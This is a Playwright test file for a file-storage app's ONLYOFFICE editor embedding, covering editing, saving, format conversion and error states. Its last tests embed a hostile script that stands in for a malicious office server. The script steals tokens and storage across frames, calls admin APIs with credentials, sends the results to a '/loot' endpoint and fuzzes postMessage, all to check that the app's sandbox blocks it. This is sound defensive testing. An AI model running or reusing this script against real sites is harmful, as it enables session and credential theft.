import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import AxeBuilder from '@axe-core/playwright';
import { test as base, type Page } from '@playwright/test';
import JSZip from 'jszip';
import { Drive } from './drive';
import { FakeOffice } from './fake-onlyoffice';
import { expect, prefer, signIn } from './fixtures';
import { Server } from './server';

const sample = () =>
  readFileSync(fileURLToPath(new URL('../../stories/testdata/documents/fa-letter.docx', import.meta.url)));

async function edited(): Promise<Uint8Array> {
  const zip = await JSZip.loadAsync(sample());
  const main = (await zip.file('word/document.xml')?.async('text')) ?? '';
  zip.file('word/document.xml', main.replace('</w:p>', '<w:r><w:t>From the office</w:t></w:r></w:p>'));
  return zip.generateAsync({ type: 'uint8array' });
}

interface Desk {
  readonly server: Server;
  readonly office: FakeOffice;
  readonly spaceId: string;
  readonly folder: string;
  readonly file: string;
  readonly access: string;
}

const test = base.extend<{ desk: Desk; user: Page }>({
  // oxlint-disable-next-line no-empty-pattern -- Playwright wants it
  desk: async ({}, use) => {
    const server = await Server.start();
    const office = await new FakeOffice('hush').start();
    office.edited = await edited();
    const { space_id: spaceId } = await server.setUp('شرکت پارس‌نگار');
    const { access } = await server.session();
    const connection = { url: office.url, internal_url: '', own_url: server.url, header: '', skip_verify: false };
    await server.call('PUT', 'admin/settings/onlyoffice', { ...connection, secret: 'hush' }, access);
    const choice = { word: 'onlyoffice', cell: 'embedded', slide: 'onlyoffice' };
    await server.call('PUT', 'admin/settings/editors', choice, access);
    const drive = await Drive.of(server, spaceId);
    const folder = await drive.folder('Office');
    const file = await drive.file('letter.docx', sample(), folder);
    await use({ server, office, spaceId, folder, file, access });
    office.stop();
    await server.stop();
  },
  baseURL: async ({ desk }, use) => use(desk.server.url),
  user: async ({ page, desk }, use) => {
    await signIn(page, await desk.server.session());
    await use(page);
  },
});

const versions = async ({ server, spaceId, folder, file, access }: Desk): Promise<number> => {
  const path = `storage/space/${spaceId}/directory/${folder}/file/${file}/properties`;
  const { file_versioning: all } = await server.call<{ file_versioning: object[] }>('GET', path, undefined, access);
  return all.length;
};

/** The frame of the office server lies in a page of this server. */
const editorIn = (page: Page) => page.frameLocator('main iframe').frameLocator('iframe');

const ready = (page: Page) => expect(page.locator('main[data-shown="true"]')).toBeVisible();

for (const lang of ['fa', 'en'] as const) {
  const fa = lang === 'fa';

  test(
    `${lang}: the office server edits a document, and hands it over`,
    { tag: `@${lang}` },
    async ({ user: page, desk, isMobile }) => {
      test.slow();
      await prefer(page, lang);
      await page.goto(`/workspace/${desk.spaceId}/directory/${desk.folder}`);
      if (isMobile) {
        await page.goto(`/editor/onlyoffice?space=${desk.spaceId}&directory=${desk.folder}&file=${desk.file}`);
      } else {
        await page.getByText('letter.docx').first().click();
        await page.keyboard.press('Enter');
      }
      await ready(page);
      const frame = editorIn(page);
      await expect(frame.getByRole('heading', { name: 'edit' })).toBeVisible();
      await expect(page.locator('main iframe')).toHaveAttribute('title', /letter\.docx/);
      expect((await new AxeBuilder({ page }).exclude('main iframe').analyze()).violations).toEqual([]);
      await frame.getByLabel('Text').fill('words');
      await expect(page.locator('header [data-saving="dirty"]')).toBeVisible();
      await frame.getByRole('button', { name: 'Save copy' }).click();
      await expect(
        page.getByText(fa ? /با نام «.*Copy of it\.docx.*» ذخیره شد/ : /Saved as “.*Copy of it\.docx.*”/),
      ).toBeVisible();
      await frame.getByRole('button', { name: 'Fail' }).click();
      await expect(page.getByRole('alert').filter({ hasText: 'No room left' })).toBeVisible();
      await frame.getByRole('button', { name: 'Close' }).click();
      await expect(page.locator('[data-index]')).toHaveCount(2);
      await expect.poll(() => versions(desk)).toBe(2);
    },
  );
}

test('an office server that is away is named, and asked again', async ({ user: page, desk, isMobile }) => {
  test.skip(isMobile, 'the state is the same');
  await prefer(page, 'en');
  desk.office.isDown = true;
  await page.goto(`/editor/onlyoffice?space=${desk.spaceId}&directory=${desk.folder}&file=${desk.file}`);
  await expect(page.getByRole('alert').filter({ hasText: 'The office server does not answer' })).toBeVisible();
  desk.office.isDown = false;
  await page.getByRole('button', { name: 'Try again' }).click();
  await ready(page);
});

test('a person opens a document with another editor', async ({ user: page, desk, isMobile }) => {
  test.skip(isMobile, 'the menu is a sheet there');
  test.slow();
  await prefer(page, 'en');
  await page.goto(`/workspace/${desk.spaceId}/directory/${desk.folder}`);
  await page.getByText('letter.docx').first().click({ button: 'right' });
  const submenu = page.getByRole('menuitem', { name: 'Open with' });
  await submenu.focus();
  await page.keyboard.press('ArrowRight');
  await expect(page.getByRole('menuitem', { name: /ONLYOFFICE/ })).toContainText('Default editor');
  await expect(page.getByRole('menuitem', { name: 'Download', exact: true }).last()).toBeVisible();
  const own = page.getByRole('menuitem', { name: 'Anbar’s editor' });
  await own.focus();
  await page.keyboard.press('Enter');
  await expect(page).toHaveURL(/engine=embedded/);
  await expect(page.locator('main iframe')).toHaveAttribute('data-shown', 'true');
});

const textOf = async ({ server, spaceId, folder, access }: Desk, file: string): Promise<string> => {
  const path = `download/space/${spaceId}/directory/${folder}/file/${file}`;
  const { url } = await server.call<{ url: string }>('GET', path, undefined, access);
  const bytes = await (await fetch(new URL(url, server.url))).arrayBuffer();
  return (await (await JSZip.loadAsync(bytes)).file('word/document.xml')?.async('text')) ?? '';
};

test('what was typed is saved on request, while the document stays open', async ({ user: page, desk, isMobile }) => {
  test.skip(isMobile, 'the menu is the same');
  test.slow();
  await prefer(page, 'en');
  await page.goto(`/editor/onlyoffice?space=${desk.spaceId}&directory=${desk.folder}&file=${desk.file}`);
  await ready(page);
  await editorIn(page).getByLabel('Text').fill('words');
  expect(await textOf(desk, desk.file)).not.toContain('From the office');
  await page.getByRole('button', { name: 'More actions' }).click();
  await page.getByRole('menuitem', { name: 'Save', exact: true }).click();
  await expect(page.getByText('The office server is saving the document')).toBeVisible();
  await expect.poll(() => textOf(desk, desk.file)).toContain('From the office');
  await expect(editorIn(page).getByRole('heading', { name: 'edit' })).toBeVisible();
  expect(await versions(desk)).toBe(2);
});

test('an office server that wants the document anew gets another configuration, in the same page', async ({
  user: page,
  desk,
  isMobile,
}) => {
  test.skip(isMobile, 'the page is the same');
  test.slow();
  await prefer(page, 'en');
  await page.goto(`/editor/onlyoffice?space=${desk.spaceId}&directory=${desk.folder}&file=${desk.file}`);
  await ready(page);
  const frame = editorIn(page);
  await frame.getByLabel('Text').fill('stays');
  await frame.getByRole('button', { name: 'Refresh' }).click();
  await expect(frame.getByRole('heading', { name: 'edit, again' })).toBeVisible();
  // The page was not loaded anew.
  await expect(frame.getByLabel('Text')).toHaveValue('stays');
  expect(desk.office.keys).toHaveLength(2);
});

test('a document of an older format is converted beside itself, and the new one is edited', async ({
  user: page,
  desk,
  isMobile,
}) => {
  test.skip(isMobile, 'the bar is the same');
  test.slow();
  await prefer(page, 'en');
  const drive = await Drive.of(desk.server, desk.spaceId);
  const old = await drive.file('memo.doc', 'an old memo', desk.folder);
  await page.goto(`/editor/onlyoffice?space=${desk.spaceId}&directory=${desk.folder}&file=${old}`);
  await page.getByRole('button', { name: 'Make an editable copy' }).click();
  await expect(page.getByRole('heading', { name: 'memo.docx' })).toBeVisible();
  await ready(page);
  await expect(editorIn(page).getByRole('heading', { name: 'edit' })).toBeVisible();
  const made = new URL(page.url()).searchParams.get('file') ?? '';
  expect(made).not.toBe(old);
  expect(await textOf(desk, made)).toContain('From the office');
});

test('a phone may change to the editor of a desktop', { tag: '@phone' }, async ({ user: page, desk, isMobile }) => {
  test.skip(!isMobile, 'only there the office server offers it');
  await prefer(page, 'en');
  await page.goto(`/editor/onlyoffice?space=${desk.spaceId}&directory=${desk.folder}&file=${desk.file}`);
  await expect(editorIn(page).getByRole('heading', { name: 'edit, phone' })).toBeVisible();
  await editorIn(page).getByRole('button', { name: 'Desktop' }).click();
  await expect(editorIn(page).getByRole('heading', { name: 'edit', exact: true })).toBeVisible();
});

/** Everything that a script of an office server could want here. What it gets, it carries away. */
const thief = `
var app = new URLSearchParams(location.search).get('parentOrigin') || location.ancestorOrigins && location.ancestorOrigins[0];
var carry = function (what) { fetch('/loot', { method: 'POST', body: what }); };
var tries = {
  ownTokens: function () { return localStorage.getItem('access_token'); },
  parentStorage: function () { return parent.localStorage.length; },
  topStorage: function () { return top.localStorage.length; },
  parentPage: function () { return parent.document.title; },
  topPage: function () { return top.document.title; },
  sibling: function () { return top.frames[0].document.title; },
  database: function () { return top.indexedDB.databases; },
  topAddress: function () { top.location.href = location.origin + '/popup.html'; },
  parentAddress: function () { parent.location.href = location.origin + '/popup.html'; },
  replaced: function () { parent.location.replace('javascript:alert(1)'); },
  named: function () { if (window.open(location.origin + '/popup.html', '_top') === top) return 'top'; },
  opened: function () { return opener && opener.top.location.replace('/popup.html') || opener && 'opener'; },
};
Object.keys(tries).forEach(function (name) {
  // A window of its own has nothing around it but the one that opened it.
  if (parent === self && name !== 'opened') return;
  try {
    var got = tries[name]();
    if (got) carry(name + ' ' + got);
  } catch (refused) {}
});
if (app) {
  ['/api/users/me', '/api/admin/settings/connections', '/'].forEach(function (path) {
    fetch(app + path, { credentials: 'include' }).then(function (r) { return r.text(); }).then(carry, function () {});
  });
  [parent, top].forEach(function (one) {
    [
      { ready: true }, { gone: true }, { open: { base: location.origin } }, { event: 'onRequestClose' },
      { event: 'onRequestSaveAs', data: { url: location.origin, title: 'x', fileType: 'docx' } }, { refresh: {} }, { said: '{}' },
      'x', null, '{"frameEditorId":"document","event":"__proto__"}', '{"frameEditorId":"document","event":"constructor"}',
      '{"frameEditorId":"document","event":"onError","data":{"errorDescription":{"html":"<b>"}}}', 'null', '7',
    ].forEach(function (message) { one.postMessage(message, '*'); });
  });
  addEventListener('click', function () { window.open(location.origin + '/popup.html'); window.open(app + '/'); });
}
carry('ran');
`;

test('an office server that means ill gets nothing of the person who opens a document', async ({
  page,
  desk,
  isMobile,
}) => {
  test.skip(isMobile, 'the walls are the same');
  test.slow();
  await prefer(page, 'en');
  // At this origin alone: signIn puts the tokens into each frame.
  await page.goto('/login');
  const { access, refresh } = await desk.server.session();
  await page.evaluate(
    ([first, second]) => {
      localStorage.setItem('access_token', first);
      localStorage.setItem('refresh_token', second);
    },
    [access, refresh] as const,
  );
  desk.office.more = thief;
  desk.office.script = `document.body.append(Object.assign(document.createElement('iframe'),
    { src: '${desk.office.url}/loot' + encodeURIComponent('script ' + Object.keys(localStorage)) }));`;
  await page.goto(`/editor/onlyoffice?space=${desk.spaceId}&directory=${desk.folder}&file=${desk.file}`);
  await expect.poll(() => desk.office.loot.length).toBeGreaterThan(0);
  expect(desk.office.loot[0]).toBe('ran');
  await ready(page);
  const popup = page.context().waitForEvent('page');
  await editorIn(page).getByRole('heading').click();
  await popup;
  // The popup ran the script, too.
  await expect.poll(() => desk.office.loot.filter((one) => one === 'ran').length).toBeGreaterThan(1);
  expect(desk.office.loot.filter((one) => one !== 'ran')).toEqual([]);
  expect(desk.office.asked.filter((path) => path.endsWith('.js'))).toEqual([]);
  await expect(page).toHaveURL(/\/editor\/onlyoffice\?/);
  await expect(page.getByRole('heading', { name: 'letter.docx' })).toBeVisible();
  await expect(page.locator('main')).not.toContainText('<b>');
  expect(await page.evaluate(() => localStorage.getItem('access_token'))).toBeTruthy();
});

test('a page never lets an office server into its own origin', async ({ user: page, desk, isMobile }) => {
  test.skip(isMobile, 'the walls are the same');
  const asOwn = { url: desk.server.url, internal_url: '', own_url: '', header: '', skip_verify: false, secret: 'hush' };
  const answer = await fetch(`${desk.server.url}/api/admin/settings/onlyoffice`, {
    method: 'PUT',
    headers: { Authorization: `Bearer ${desk.access}`, 'Content-Type': 'application/json' },
    body: JSON.stringify(asOwn),
  });
  expect(answer.status).toBe(400);
  expect(await answer.text()).toContain('office_beside');
  const policy = (await page.request.get('/editor/onlyoffice')).headers()['content-security-policy'] ?? '';
  expect(policy).not.toContain(desk.office.url);
});
